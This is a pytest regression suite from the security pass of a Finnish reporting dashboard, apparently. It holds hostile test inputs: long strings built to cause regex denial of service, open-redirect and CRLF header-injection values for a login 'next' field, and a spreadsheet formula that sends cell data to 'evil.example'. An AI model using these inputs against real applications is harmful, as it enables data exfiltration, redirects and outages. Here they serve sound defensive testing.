"""Attacks on the routes of the reporting form, the coordinator's workbench, the column mapping
and the leadership outputs that broke something (the security pass of the `attack` branch; what
held is listed in README "Security"). Each test fails on the code before its fix.

- One anonymous request to the live privacy screen (`/report/screen`) or the form with a long
  hostile text ("a" * 170 000, "A-A-A-…") kept a worker busy for minutes: the e-mail and street
  patterns started a match at every position that ran to the end of the word, the name rule
  copied the text before every capitalised word and compared every hit with every other. Worker
  timeout, SIGKILL, the same again with the next request.
- The texts a reporter typed were remembered by the screen's cache (8 192 texts of up to 512 kB
  per worker, filled by anyone).
- The reporter login's `next` with a line break answered 500 after a right password.
- The form's queue of waiting reports had no bound.
- A chart's embedded workbook in the deck wrote a label starting with "=" as a formula.
- A file header with a DEL character made the saved column mapping unreadable.
- Ten wrong reporter passwords at an office's address locked every reporter there out.
"""

from __future__ import annotations

import io
import time
import zipfile

import pytest
from openpyxl import load_workbook
from pptx import Presentation

from dashboard.analysis import privacy
from dashboard.imports.mapping import Mapping, mapping_of, mapping_toml
from dashboard.web.routes import report
from queries.db import write_new_version

from .test_report_form import GOOD, form_of, hidden, send, store_of

AUTUMN = "county=09&from=2024-09-01&to=2024-12-31"


@pytest.fixture()
def db(db_copy, monkeypatch):
    monkeypatch.setenv("DASHBOARD_REPORT_INTAKE_SECONDS", "0")
    for name in ("DASHBOARD_REPORT_ACCESS", "DASHBOARD_REPORT_COUNTY", "DASHBOARD_REPORT_RATE"):
        monkeypatch.delenv(name, raising=False)
    return db_copy


@pytest.fixture()
def app_db(db):
    return db


# ---- the privacy screen in linear time -----------------------------------------------------------

HOSTILE = {
    "one long word": "a" * 60_000,
    "digits": "1" * 60_000,
    "dotted": "a." * 30_000,
    "capitals and hyphens": "A-" * 30_000,
    "capitalised words": " ".join(f"Xqz{i:05d}abc" for i in range(5_000)),
}


def test_hostile_texts_are_screened_in_linear_time():
    """60 000 characters of each shape: before the fix the e-mail and street patterns alone took
    about 25 s and 50 s on these (they grow with the square of the length); now all of them take
    well under a second. The bound is twenty times what the screen takes on the loaded shared
    machine, and far below what the old code took."""
    privacy.screen_text("Matti Virtanen soitti.", "observation", privacy.Context())  # the lemmatiser loaded
    started = time.monotonic()
    for name, text in HOSTILE.items():
        hits = privacy.screen_text(text, "observation", privacy.Context(), remember=False)
        assert all(0 <= h.start < h.end <= len(text) for h in hits), name
    assert time.monotonic() - started < 10


def test_the_screen_finds_what_it_found_before():
    """The bounded patterns and the quicker place rule find the same things."""
    ctx = privacy.Context(places=frozenset({"heinola", "lahti"}))
    text = (
        "Asiakas matti.meikalainen+tuki@posti.example.fi soitti, osoite Mannerheimintie 12 B 4, "
        "00100 Helsinki. Hän asuu Heinolassa ja kävi Lahdessa. Liisa Korhonen kertoi, että "
        "puhelin 040 123 4567 ei vastaa. Tunnus 131052-308T."
    )
    found = {(h.kind, h.text) for h in privacy.screen_text(text, "observation", ctx)}
    assert found == {
        ("email", "matti.meikalainen+tuki@posti.example.fi"),
        ("address", "Mannerheimintie 12 B 4"),
        ("address", "00100 Helsinki"),
        ("name", "Liisa"),
        ("name", "Korhonen"),
        ("phone", "040 123 4567"),
        ("personal_id", "131052-308T"),
    }
    assert not any("Heinola" in t or "Lahde" in t for _, t in found)  # inflected place names


def test_the_live_screen_and_the_form_do_not_screen_or_remember_an_over_long_text(client, db):
    """A text over the form's limit is not screened (its field says it is too long; it is screened
    once it fits), so a 512 kB form costs the server little; and what a reporter types never
    fills the screen's cache."""
    _html, csrf, _ = form_of(client)
    remembered = privacy._remembered.cache_info().currsize
    long_text = "Soita 040 123 4567. " + "A-" * 85_000
    data = {"havainto": long_text, "asiakkaan_aani": "Soita 040 765 4321", "county": "09"}
    started = time.monotonic()
    answer = client.post("/report/screen", data=data, headers={"X-CSRFToken": csrf}).get_json()
    assert time.monotonic() - started < 20  # before: the worker's 60 s timeout, then SIGKILL
    assert answer["warnings"]["havainto"] == []  # too long to send: not screened
    assert [w["text"] for w in answer["warnings"]["asiakkaan_aani"]] == ["040 765 4321"]
    response = send(client, havainto=long_text)
    assert response.status_code == 422 and "liian pitkä" in response.get_data(as_text=True)
    assert privacy._remembered.cache_info().currsize == remembered
    assert store_of(db).pending_count() == 0


# ---- the reporter login's next ----------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    ["/report\r\nSet-Cookie: x=1", "//evil.example", "/report/\t/evil.example", "/reports", "/report\\evil"],
)
def test_the_reporter_logins_next_never_leaves_the_form_nor_breaks(client, monkeypatch, target):
    monkeypatch.setenv("DASHBOARD_REPORT_ACCESS", "login")
    monkeypatch.setenv("DASHBOARD_REPORTER_PASSWORD", "oikea")
    token = hidden(client.get("/report/login").get_data(as_text=True), "csrf_token")
    response = client.post("/report/login", data={"password": "oikea", "csrf_token": token, "next": target})
    assert response.status_code == 302 and response.headers["Location"] == "/report"
    response = client.post(
        "/report/login", data={"password": "oikea", "csrf_token": token, "next": "/report?county=09"}
    )
    assert response.headers["Location"] == "/report?county=09"


# ---- a bounded queue ----------------------------------------------------------------------------


def test_the_queue_of_waiting_reports_is_bounded_and_a_sent_form_keeps_its_receipt(client, db, monkeypatch):
    monkeypatch.setattr(report, "MAX_WAITING", 2)
    html, csrf, first = form_of(client)
    assert send(client, form_id=first, csrf=csrf).status_code == 200
    assert send(client).status_code == 200
    refused = send(client, havainto="Kolmas raportti jonossa, joka on täynnä.")
    page = refused.get_data(as_text=True)
    assert refused.status_code == 503 and refused.headers["Retry-After"]
    assert "Raporttia ei voitu tallentaa juuri nyt" in page and "Kolmas raportti jonossa" in page
    assert store_of(db).pending_count() == 2
    again = send(client, form_id=first, csrf=csrf)  # a replay of a stored form still gets its receipt
    assert again.status_code == 200 and "/report/receipt/" in again.get_data(as_text=True)


def test_the_forms_limits_count_an_ipv6_client_by_its_network(client, db, monkeypatch):
    monkeypatch.setenv("DASHBOARD_REPORT_RATE", "2 per 10 minutes")
    for i in (1, 2):
        env = {"REMOTE_ADDR": f"2001:db8:5:6::{i}"}
        html = client.get("/report?county=09", environ_base=env).get_data(as_text=True)
        data = {"csrf_token": hidden(html, "csrf_token"), "form_id": hidden(html, "form_id"), **GOOD}
        assert client.post("/report?county=09", data=data, environ_base=env).status_code == 200
    html = client.get("/report?county=09", environ_base={"REMOTE_ADDR": "2001:db8:5:6:ffff::9"}).get_data(as_text=True)
    data = {"csrf_token": hidden(html, "csrf_token"), "form_id": hidden(html, "form_id"), **GOOD}
    env = {"REMOTE_ADDR": "2001:db8:5:6:ffff::9"}  # another address of the same /64
    assert client.post("/report?county=09", data=data, environ_base=env).status_code == 429
    env = {"REMOTE_ADDR": "2001:db8:5:7::1"}  # another network
    html = client.get("/report?county=09", environ_base=env).get_data(as_text=True)
    data = {"csrf_token": hidden(html, "csrf_token"), "form_id": hidden(html, "form_id"), **GOOD}
    assert client.post("/report?county=09", data=data, environ_base=env).status_code == 200


# ---- formulas in the deck's chart data -----------------------------------------------------------


def test_a_label_starting_with_a_formula_character_is_text_in_the_decks_chart_data(client, db):
    """A county's own code list (`data/codes/`) names an observation type '=HYPERLINK(…)': the
    slides show it as it is, and "Edit data" in PowerPoint opens a workbook where it is text."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'

    def rename(con):
        con.execute("UPDATE observation_types SET name_fi = ? WHERE code = 'negative'", [evil])

    write_new_version(db, rename)
    response = client.get(f"/download/deck.pptx?{AUTUMN}")
    assert response.status_code == 200
    prs = Presentation(io.BytesIO(response.data))
    labelled = [
        shape.chart
        for slide in prs.slides
        for shape in slide.shapes
        if shape.has_chart and evil in [str(c) for c in shape.chart.plots[0].categories]
    ]
    assert labelled, "the renamed type is a category of a chart"
    holding = 0
    with zipfile.ZipFile(io.BytesIO(response.data)) as deck:
        for name in deck.namelist():
            if name.endswith(".xlsx"):
                sheet = load_workbook(io.BytesIO(deck.read(name))).active
                cells = [cell for row in sheet.iter_rows() for cell in row]
                assert not [c.coordinate for c in cells if c.data_type == "f"], name  # before: the label's cell
                holding += any(c.value == evil and c.data_type == "s" for c in cells)
    assert holding >= len(labelled)  # each chart that names it holds it as text


# ---- a saved mapping of a header with DEL -----------------------------------------------------------


def test_a_header_with_a_del_character_makes_a_readable_mapping(tmp_path):
    header = ["Kuvaa havaintosi\x7f", "Päivämäärä"]
    data = mapping_toml(header, {0: "havainto", 1: "pvm"}, "Lomake", "09", "koordinaattori")
    read = Mapping.from_bytes(data, "lomake.toml")  # before: "Illegal character '\\x7f'"
    assert sorted(read.columns.values()) == ["havainto", "pvm"]
    assert read.columns == mapping_of(header, {0: "havainto", 1: "pvm"}).columns


# ---- the reporter login: another user's failures ------------------------------------------------


def test_another_reporters_failures_do_not_lock_a_reporter_out(client, monkeypatch, tmp_path):
    """Ten wrong passwords for one user of the reporters' htpasswd file, from an office's one
    address, refuse that user there, not a colleague (before: the whole address got 429)."""
    import bcrypt

    hashed = bcrypt.hashpw(b"kissa123", bcrypt.gensalt(rounds=4)).decode()
    (tmp_path / "reporters").write_text(f"ville:{hashed}\nsari:{hashed}\n")
    monkeypatch.setenv("DASHBOARD_REPORT_ACCESS", "login")
    monkeypatch.setenv("DASHBOARD_REPORTER_HTPASSWD", str(tmp_path / "reporters"))
    token = hidden(client.get("/report/login").get_data(as_text=True), "csrf_token")
    for _ in range(10):
        wrong = {"user": "ville", "password": "väärä", "csrf_token": token}
        assert client.post("/report/login", data=wrong).status_code == 401
    assert client.post("/report/login", data={**wrong, "password": "kissa123"}).status_code == 429
    right = {"user": "sari", "password": "kissa123", "csrf_token": token}
    assert client.post("/report/login", data=right).status_code == 302
